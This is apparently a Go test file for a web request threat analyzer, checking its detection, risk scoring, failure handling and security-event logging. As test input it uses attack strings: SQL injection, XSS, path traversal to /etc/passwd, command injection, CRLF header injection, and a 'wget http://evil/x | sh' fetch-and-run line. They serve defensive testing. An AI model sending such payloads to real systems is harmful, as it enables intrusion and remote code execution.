package threat

import (
	"context"
	"testing"
	"time"

	"github.com/berserk3142-max/trust-guard/audit"
	"github.com/berserk3142-max/trust-guard/config"
	"github.com/berserk3142-max/trust-guard/logger"
	"github.com/berserk3142-max/trust-guard/models"
	"github.com/berserk3142-max/trust-guard/store"
	"github.com/berserk3142-max/trust-guard/store/storetest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var start = time.Date(2024, 3, 4, 12, 0, 0, 0, time.UTC)

func newTestAnalyzer(t *testing.T, s store.CounterStore) (*Analyzer, *audit.Memory, *storetest.Clock) {
	t.Helper()
	clock := storetest.NewClock(start)
	sink := audit.NewMemory()
	a, err := New(s, sink, config.Default().Threat, logger.Discard(), WithClock(clock.Now))
	require.NoError(t, err)
	return a, sink, clock
}

func browserHeaders() map[string][]string {
	return map[string][]string{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64)"}}
}

func indicatorNames(r *ThreatReport) []string {
	var names []string
	for _, ind := range r.Indicators {
		names = append(names, ind.Name)
	}
	return names
}

func TestAnalyzeRequest_SQLInjection(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method:   "GET",
		Path:     "/search",
		Query:    map[string][]string{"id": {"1; DROP TABLE users;"}},
		Headers:  browserHeaders(),
		ClientIP: "203.0.113.7",
	})
	require.NoError(t, err)
	assert.True(t, r.ThreatsDetected)
	assert.Contains(t, indicatorNames(r), string(models.EventSQLInjection))
	assert.NotEqual(t, models.ActionAllow, r.RecommendedAction)
	assert.Equal(t, 60.0, r.RiskScore)
	assert.Equal(t, models.EventSQLInjection, r.PrimaryType())
}

func TestAnalyzeRequest_ScriptTag(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method:   "POST",
		Path:     "/comments",
		Body:     map[string][]string{"text": {"<script>alert(1)</script>"}, "csrf_token": {"abc"}},
		Headers:  browserHeaders(),
		ClientIP: "203.0.113.8",
	})
	require.NoError(t, err)
	assert.Contains(t, indicatorNames(r), string(models.EventXSS))
	assert.NotEqual(t, models.ActionAllow, r.RecommendedAction)
	assert.NotContains(t, indicatorNames(r), string(models.EventCSRFMissing))
}

func TestAnalyzeRequest_EncodedPayloads(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	tests := []struct {
		name  string
		query string
		want  models.EventType
	}{
		{"path traversal", "..%2F..%2Fetc%2Fpasswd", models.EventPathTraversal},
		{"command injection", "x; cat /etc/hosts", models.EventCommandInjection},
		{"union select", "1 UNION SELECT password FROM users", models.EventSQLInjection},
		{"javascript url", "javascript:alert(document.cookie)", models.EventXSS},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
				Method:  "GET",
				Query:   map[string][]string{"q": {tt.query}},
				Headers: browserHeaders(),
			})
			require.NoError(t, err)
			assert.Contains(t, indicatorNames(r), string(tt.want))
		})
	}
}

func TestAnalyzeRequest_BenignText(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method:  "GET",
		Path:    "/stories/42",
		Query:   map[string][]string{"q": {"Tom & Jerry; cats and dogs, issue #5 -- only one"}},
		Headers: browserHeaders(),
	})
	require.NoError(t, err)
	assert.False(t, r.ThreatsDetected, "unexpected indicators %v", r.Indicators)
	assert.Equal(t, models.ActionAllow, r.RecommendedAction)
}

func TestAnalyzeRequest_EmptySnapshot(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	for _, snap := range []*models.RequestSnapshot{nil, {}} {
		r, err := a.AnalyzeRequest(context.Background(), snap)
		require.NoError(t, err)
		assert.False(t, r.ThreatsDetected)
		assert.Zero(t, r.RiskScore)
		assert.Equal(t, models.ActionAllow, r.RecommendedAction)
		assert.False(t, r.Reputation.Available)
	}
}

func TestAnalyzeRequest_CSRF(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())
	ctx := context.Background()

	r, err := a.AnalyzeRequest(ctx, &models.RequestSnapshot{Method: "POST", Path: "/profile", Headers: browserHeaders()})
	require.NoError(t, err)
	assert.Equal(t, []string{string(models.EventCSRFMissing)}, indicatorNames(r))
	assert.Equal(t, models.ActionMonitor, r.RecommendedAction)

	withHeader := browserHeaders()
	withHeader["X-CSRF-Token"] = []string{"t0k3n"}
	r, err = a.AnalyzeRequest(ctx, &models.RequestSnapshot{Method: "POST", Headers: withHeader})
	require.NoError(t, err)
	assert.False(t, r.ThreatsDetected)

	bearer := browserHeaders()
	bearer["Authorization"] = []string{"Bearer abc.def.ghi"}
	r, err = a.AnalyzeRequest(ctx, &models.RequestSnapshot{Method: "DELETE", Headers: bearer})
	require.NoError(t, err)
	assert.False(t, r.ThreatsDetected)

	r, err = a.AnalyzeRequest(ctx, &models.RequestSnapshot{Method: "GET", Headers: browserHeaders()})
	require.NoError(t, err)
	assert.False(t, r.ThreatsDetected)
}

func TestAnalyzeRequest_HeaderAnomalies(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())
	ctx := context.Background()

	r, err := a.AnalyzeRequest(ctx, &models.RequestSnapshot{
		Method:  "GET",
		Headers: map[string][]string{"User-Agent": {"sqlmap/1.7.2#stable"}},
	})
	require.NoError(t, err)
	require.Len(t, r.Indicators, 1)
	assert.Equal(t, string(models.EventHeaderAnomaly), r.Indicators[0].Name)
	assert.Equal(t, 35.0, r.Indicators[0].Weight)

	r, err = a.AnalyzeRequest(ctx, &models.RequestSnapshot{
		Method:  "GET",
		Headers: map[string][]string{"Accept": {"*/*"}},
	})
	require.NoError(t, err)
	require.Len(t, r.Indicators, 1)
	assert.Equal(t, "missing user agent", r.Indicators[0].Detail)

	r, err = a.AnalyzeRequest(ctx, &models.RequestSnapshot{
		Method: "GET",
		Headers: map[string][]string{
			"User-Agent": {"curl/8.0"},
			"X-Forward":  {"a\r\nSet-Cookie: session=1"},
		},
	})
	require.NoError(t, err)
	assert.Contains(t, indicatorNames(r), string(models.EventHeaderAnomaly))
}

func TestAnalyzeRequest_HeaderPayloads(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method: "GET",
		Path:   "/search",
		Headers: map[string][]string{
			"User-Agent": {"Mozilla/5.0"},
			"Referer":    {"<script>alert(1)</script>"},
			"X-Search":   {"1; DROP TABLE users;"},
		},
	})
	require.NoError(t, err)
	assert.True(t, r.ThreatsDetected)

	locations := map[string]string{}
	for _, ind := range r.Indicators {
		locations[ind.Name] = ind.Location
	}
	assert.Equal(t, "header:Referer", locations[string(models.EventXSS)])
	assert.Equal(t, "header:X-Search", locations[string(models.EventSQLInjection)])

	r, err = a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method: "GET",
		Headers: map[string][]string{
			"User-Agent": {"Mozilla/5.0"},
			"Cookie":     {"theme=dark; pref=../../etc/passwd"},
		},
	})
	require.NoError(t, err)
	var traversal string
	for _, ind := range r.Indicators {
		if ind.Name == string(models.EventPathTraversal) {
			traversal = ind.Location
		}
	}
	assert.Equal(t, "cookie:pref", traversal)
}

func TestAnalyzeRequest_StructuralHeadersIgnored(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method: "GET",
		Path:   "/",
		Headers: map[string][]string{
			"User-Agent":    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"},
			"Accept":        {"image/avif,image/webp,*/*"},
			"Authorization": {"Bearer abc; rm -rf"},
			"Cookie":        {"session=abc; id=42"},
		},
	})
	require.NoError(t, err)
	assert.False(t, r.ThreatsDetected, indicatorNames(r))
}

func TestTruncateKeepsRunes(t *testing.T) {
	assert.Equal(t, "abc", truncate("abc", 5))
	assert.Equal(t, "hé", truncate("héllo", 3))
	assert.Equal(t, "h", truncate("héllo", 2))
	assert.Equal(t, "", truncate("世界", 2))
}

func TestAnalyzeRequest_RiskBounded(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method: "POST",
		Path:   "/../../etc/passwd",
		Query: map[string][]string{
			"a": {"' OR 1=1 --"},
			"b": {"<script>alert(1)</script>"},
			"c": {"; wget http://evil/x | sh"},
		},
		Headers: map[string][]string{"User-Agent": {"nikto"}},
	})
	require.NoError(t, err)
	assert.Equal(t, 100.0, r.RiskScore)
	assert.Equal(t, models.ActionBlock, r.RecommendedAction)
}

func TestAnalyzeRequest_PanickingDetector(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())
	a.detectors = append(a.detectors, detector{
		name: "broken",
		run: func(*models.RequestSnapshot, []field) []models.Indicator {
			panic("boom")
		},
	})

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method:  "GET",
		Query:   map[string][]string{"id": {"1; DROP TABLE users;"}},
		Headers: browserHeaders(),
	})
	require.NoError(t, err)
	assert.Contains(t, r.Unavailable, "broken")
	assert.Contains(t, indicatorNames(r), string(models.EventSQLInjection))
}

func TestAnalyzeRequest_StoreDown(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, storetest.Down{})

	r, err := a.AnalyzeRequest(context.Background(), &models.RequestSnapshot{
		Method:   "GET",
		Query:    map[string][]string{"id": {"1; DROP TABLE users;"}},
		Headers:  browserHeaders(),
		ClientIP: "198.51.100.1",
	})
	require.NoError(t, err)
	assert.False(t, r.Reputation.Available)
	assert.Contains(t, r.Unavailable, "reputation")
	assert.Equal(t, models.ActionChallenge, r.RecommendedAction)
}

func TestAnalyzeRequest_CancelledContext(t *testing.T) {
	a, _, _ := newTestAnalyzer(t, store.NewMemoryStore())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	_, err := a.AnalyzeRequest(ctx, &models.RequestSnapshot{})
	assert.ErrorIs(t, err, context.Canceled)
}

func TestLogSecurityEvent(t *testing.T) {
	a, sink, _ := newTestAnalyzer(t, store.NewMemoryStore())
	ctx := context.Background()
	snap := &models.RequestSnapshot{
		Method:   "GET",
		Path:     "/search",
		Query:    map[string][]string{"id": {"1; DROP TABLE users;"}},
		Headers:  browserHeaders(),
		ClientIP: "203.0.113.9",
		UserID:   "u-1",
	}
	r, err := a.AnalyzeRequest(ctx, snap)
	require.NoError(t, err)

	assert.True(t, a.LogSecurityEvent(ctx, snap, r))
	events := sink.SecurityEventsOfType(models.EventSQLInjection)
	require.Len(t, events, 1)
	assert.Equal(t, "203.0.113.9", events[0].SourceIP)
	assert.Equal(t, "u-1", events[0].UserID)
	assert.Equal(t, models.SeverityHigh, events[0].Severity)

	assert.False(t, a.LogSecurityEvent(ctx, snap, nil))
}

type failingSink struct{ audit.Nop }

func (failingSink) RecordSecurityEvent(context.Context, *models.SecurityEvent) error {
	return assert.AnError
}

func TestLogSecurityEvent_SinkFailure(t *testing.T) {
	a, err := New(store.NewMemoryStore(), failingSink{}, config.Default().Threat, logger.Discard())
	require.NoError(t, err)

	ok := a.LogSecurityEvent(context.Background(), &models.RequestSnapshot{}, &ThreatReport{RiskScore: 60})
	assert.False(t, ok)
}

func TestNew_InvalidTrustedRange(t *testing.T) {
	cfg := config.Default().Threat
	cfg.TrustedRanges = []string{"not-a-cidr"}
	_, err := New(store.NewMemoryStore(), nil, cfg, logger.Discard())
	assert.Error(t, err)
}
